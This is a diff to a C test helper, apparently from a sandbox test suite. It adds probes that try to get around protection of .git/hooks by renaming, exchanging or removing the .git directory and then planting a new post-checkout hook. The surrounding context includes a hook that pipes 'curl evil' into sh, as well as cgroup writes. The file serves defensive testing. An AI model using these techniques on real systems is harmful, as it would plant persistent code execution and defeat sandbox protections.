@@ -188,6 +188,21 @@ static int probe(const char* name) {
         return write_file(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n", O_CREAT | O_TRUNC);
     if (!strcmp(name, "write_protected_config")) return write_file(".git/config", "[core]\nhooksPath=/x\n", O_APPEND);
     if (!strcmp(name, "rename_protected_away")) return rename(".git/hooks", "hooks-gone");
+    /* The protected paths taken away with their directory, then a fresh
+     * .git/hooks made under the old name. */
+    if (!strcmp(name, "rename_protected_parent")) {
+        if (rename(".git", "git-gone") != 0) return -1;
+        mkdir(".git", 0755);
+        mkdir(".git/hooks", 0755);
+        return write_file(".git/hooks/post-checkout", "#!/bin/sh\n", O_CREAT | O_TRUNC);
+    }
+    if (!strcmp(name, "exchange_protected_parent")) {
+        mkdir("fake-git", 0755);
+        mkdir("fake-git/hooks", 0755);
+        write_file("fake-git/hooks/post-checkout", "#!/bin/sh\n", O_CREAT | O_TRUNC);
+        return (int)syscall(SYS_renameat2, AT_FDCWD, "fake-git", AT_FDCWD, ".git", RENAME_EXCHANGE);
+    }
+    if (!strcmp(name, "rmdir_protected_parent")) return rmdir(".git");
     if (!strcmp(name, "cgroup_procs")) {
         int fd = open("/sys/fs/cgroup/unified/cgroup.procs", O_WRONLY);
         if (fd < 0 && errno == ENOENT) fd = open("/sys/fs/cgroup/cgroup.procs", O_WRONLY);
